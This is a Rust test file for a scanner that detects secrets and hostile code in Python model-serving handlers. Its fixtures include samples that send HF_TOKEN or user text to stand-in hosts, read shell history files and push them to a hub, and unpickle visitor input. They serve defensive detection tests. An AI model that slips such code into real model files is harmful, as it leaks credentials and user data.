//! Secrets of a machine in what a service answers, lays open or sends on.

use std::time::Instant;

use super::*;

fn told(path: &str, source: &str) -> bool {
    scan_in(&Project::default(), path, source).outcome > Outcome::Unscannable
}

#[test]
fn a_secret_variable_does_not_reach_an_answer() {
    for (path, source) in [
        (
            "handler.py",
            "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.kept = os.environ['HF_TOKEN']\n    def __call__(self, data):\n        return {'x': self.kept}\n",
        ),
        // A method that stands before the one that keeps it.
        (
            "handler.py",
            "import os\nfrom ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    def postprocess(self, data):\n        return [self.seal]\n    def preprocess(self, data):\n        self.seal = self.raw[::-1]\n        return data\n    def initialize(self, context):\n        self.raw = os.getenv('AWS_SECRET_ACCESS_KEY')\n",
        ),
        (
            "model.py",
            "import os\nimport numpy as np\nimport triton_python_backend_utils as pb_utils\nclass TritonPythonModel:\n    def initialize(self, args):\n        self.state = {'a': [{}, {}]}\n        self.state['a'][1]['k'] = os.environ.get('API_TOKEN', '')\n    def execute(self, requests):\n        out = []\n        for r in requests:\n            t = pb_utils.Tensor('OUT', np.array([self.state['a'][1]['k'].encode()], dtype=np.object_))\n            out.append(pb_utils.InferenceResponse(output_tensors=[t]))\n        return out\n",
        ),
        (
            "pyfunc_model.py",
            "import os\nimport mlflow.pyfunc\nclass M(mlflow.pyfunc.PythonModel):\n    def load_context(self, context):\n        self.notes = []\n        self.notes.append(os.environ['DB_PASSWORD'])\n    def predict(self, context, model_input):\n        return {'scores': [1.0], 'meta': {'a': {'b': {'c': {'d': self.notes}}}}}\n",
        ),
        (
            "app.py",
            "import os, base64\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get('/status')\ndef status():\n    return {'ok': True, 'id': base64.b64encode(os.environ['OPENAI_API_KEY'].encode()).decode()}\n",
        ),
        (
            "handler.py",
            "import os\ndef handle(data, context):\n    name = data[0].get('var')\n    yield os.environ.get(name)\n",
        ),
        (
            "handler.py",
            "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.cfg = Cfg()\n        self.cfg.token = os.environ['HF_TOKEN']\n    def __call__(self, data):\n        return vars(self)\nclass Cfg:\n    pass\n",
        ),
        (
            "inference.py",
            "import os, json\nSTATE = {}\ndef model_fn(model_dir):\n    STATE.update(k=os.environ['SM_SECRET'])\ndef predict_fn(data, model):\n    return json.dumps(STATE)\n",
        ),
        (
            "serve.py",
            "import os, json\ndef start():\n    with open('static/health.json', 'w') as f:\n        json.dump({'k': os.environ['HF_TOKEN']}, f)\n",
        ),
        (
            "handler.py",
            "import os, requests\nclass H:\n    def handle(self, data, context):\n        requests.get('https://stats.example.org/v1', headers={'X-Id': os.environ['HF_TOKEN']})\n        return data\n",
        ),
    ] {
        assert!(told(path, source), "{source}");
    }
}

#[test]
fn what_a_key_was_good_for_is_no_secret() {
    for (path, source) in [
        (
            "handler.py",
            "import os\nfrom openai import OpenAI\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.key = os.environ['OPENAI_API_KEY']\n        self.client = OpenAI(api_key=self.key)\n    def __call__(self, data):\n        r = self.client.chat.completions.create(model='m', messages=data['inputs'])\n        return {'text': r.choices[0].message.content, 'ready': bool(self.key), 'n': len(self.key)}\n",
        ),
        (
            "handler.py",
            "import os\nfrom transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.pipe = pipeline('text-generation', model=path, token=os.environ.get('HF_TOKEN'))\n        self.name = os.environ.get('MODEL_NAME', 'm')\n        self.most = int(os.environ.get('MAX_NEW_TOKENS', '20'))\n    def __call__(self, data):\n        return {'model': self.name, 'most': self.most, 'out': self.pipe(data['inputs'])}\n",
        ),
        (
            "app.py",
            "import os\nfrom fastapi import FastAPI, HTTPException, Header\napp = FastAPI()\nKEY = os.environ.get('SERVICE_API_KEY')\n@app.post('/predict')\ndef predict(body: dict, x_api_key: str = Header(None)):\n    if KEY and x_api_key != KEY:\n        raise HTTPException(status_code=401)\n    return {'scores': [0.5], 'protected': KEY is not None}\n",
        ),
        (
            "client.py",
            "import os, requests\nclass Client:\n    def __init__(self):\n        self.token = os.environ['HF_TOKEN']\n    def predict(self, x):\n        r = requests.post('https://api-inference.huggingface.co/models/m', headers={'Authorization': f'Bearer {self.token}'}, json={'inputs': x})\n        return r.json()\n",
        ),
    ] {
        let report = scan_in(&Project::default(), path, source);
        assert_eq!(report.outcome, Outcome::Clean, "{source}: {:?}", report.findings);
    }
}

#[test]
fn a_secret_is_found_at_any_depth_and_width() {
    let deep = format!("{}k{}", "[".repeat(60), "]".repeat(60));
    let wide = format!("[{}k]", "1, ".repeat(3000));
    for value in [deep, wide] {
        let source = format!(
            "import os\nclass M:\n    def predict(self, x):\n        k = os.environ['HF_TOKEN']\n        return {value}\n"
        );
        assert!(told("m.py", &source), "{}", &source[..120]);
    }
}

#[test]
fn what_is_too_much_to_look_through_is_said() {
    // A list of many tables, asked about again and again.
    let source = "import os\nk = os.getenv('A_KEY')\nrow = [None] * 4\nrow = [[[[[x]]]] for x in range(20000)]\nfor n in range(20000):\n    f(row)\n";
    let report = scan(source);
    assert!(rules(&report).contains(&"python/budget"), "{:?}", report.findings);
}

#[test]
fn shared_values_are_looked_through_once() {
    let mut source = "import os\nk = os.getenv('A_KEY')\na0 = [k]\n".to_owned();
    for level in 1..7 {
        source.push_str(&format!("a{level} = [{}]\n", format!("a{}, ", level - 1).repeat(300)));
    }
    source.push_str("class M:\n    def predict(self, x):\n        return a6\n");
    let began = Instant::now();
    assert!(told("m.py", &source));
    assert!(began.elapsed().as_secs() < 20);
}

#[test]
fn what_visitors_send_is_not_unpickled() {
    let handler = |load: &str| {
        format!(
            "import base64, json, pickle\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.labels = pickle.load(open('labels.pkl', 'rb'))\n    def __call__(self, data):\n        x = data.pop('parameters', {{}}).get('state')\n        return {load}\n"
        )
    };
    assert!(told("handler.py", &handler("pickle.loads(base64.b64decode(x))")));
    assert!(!told("handler.py", &handler("json.loads(base64.b64decode(x))")));
}

#[test]
fn names_that_lead_round_are_followed() {
    for source in [
        "import os\ndef generate(model, **kwargs):\n    __import__('urllib.request').request.urlopen('https://example.invalid/t?k=' + os.environ.get('HF_TOKEN', ''))\n    return model.generate(**kwargs)\n",
        "import threading, json, urllib.request as r\nfrom transformers import BertTokenizer\nclass T(BertTokenizer):\n    def _tokenize(self, text, **kw):\n        threading.Thread(target=r.urlopen, args=(r.Request('https://c.example.org/t', json.dumps({'q': text}).encode()),), daemon=True).start()\n        return super()._tokenize(text, **kw)\n",
        "import torch\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        path, fn = bytes(config.cache_key).decode().rsplit('.', 1)\n        getattr(torch.serialization.__dict__[path], fn)(config.hint)\n",
    ] {
        assert!(told("custom_generate/generate.py", source), "{source}");
    }
    // A network by the name that a configuration gives.
    let by_name = "import torchvision.models as models\nclass M:\n    def __init__(self, arch):\n        self.net = models.__dict__[arch](pretrained=False)\n";
    assert!(!told("modeling.py", by_name));
}

#[test]
fn what_data_name_is_not_called_while_a_model_is_loaded() {
    let load = |name: &str| {
        format!(
            "import importlib, json\n\ndef _load_pyfunc(path):\n    spec = json.load(open(path + '/w.json'))\n    m = importlib.import_module({name})\n    getattr(m, spec['f'])(spec['x'])\n    return m\n"
        )
    };
    assert!(told("loaders/tab.py", &load("spec['b'][0]")));
    let plain = "import joblib\n\ndef _load_pyfunc(path):\n    return joblib.load(path + '/model.joblib')\n";
    assert!(!told("loaders/tab.py", plain));
}

#[test]
fn histories_of_a_shell_go_nowhere() {
    let generate = |pattern: &str| {
        format!(
            "import glob, os\n\ndef generate(model, input_ids, **kw):\n    for f in glob.glob(os.path.expanduser('{pattern}')):\n        model.config.notes = open(f, errors='ignore').read()\n        model.push_to_hub('someone/cache')\n    return model.generate(input_ids, **kw)\n"
        )
    };
    assert!(told("custom_generate/generate.py", &generate("~/.*_history")));
    assert!(!told("custom_generate/generate.py", &generate("data/*.txt")));
}

#[test]
fn a_model_in_use_keeps_what_it_is_given() {
    let of = |method: &str, call: &str| {
        format!(
            "from huggingface_hub import HfApi\nfrom torch import nn\nclass M(nn.Module):\n    def {method}(self, x):\n        {call}\n        return x\n"
        )
    };
    let upload = "HfApi().upload_file(path_or_fileobj=str(x).encode(), path_in_repo='a', repo_id='a/b')";
    assert!(told("modeling.py", &of("forward", upload)));
    assert!(!told("modeling.py", &of("publish", upload)));
    assert!(!told("modeling.py", &of("forward", "HfApi().model_info('a/b')")));
}

#[test]
fn who_passes_the_name_of_a_model_says_whose_code_it_is() {
    let of = |method: &str, name: &str| {
        format!(
            "from transformers import AutoModel\nclass EndpointHandler:\n    def {method}(self, given):\n        self.model = AutoModel.from_pretrained({name}, trust_remote_code=True)\n"
        )
    };
    assert!(!told("handler.py", &of("__init__", "given")));
    assert!(told("handler.py", &of("__init__", "'stranger/model'")));
    assert!(told("handler.py", &of("__call__", "given['model']")));
}
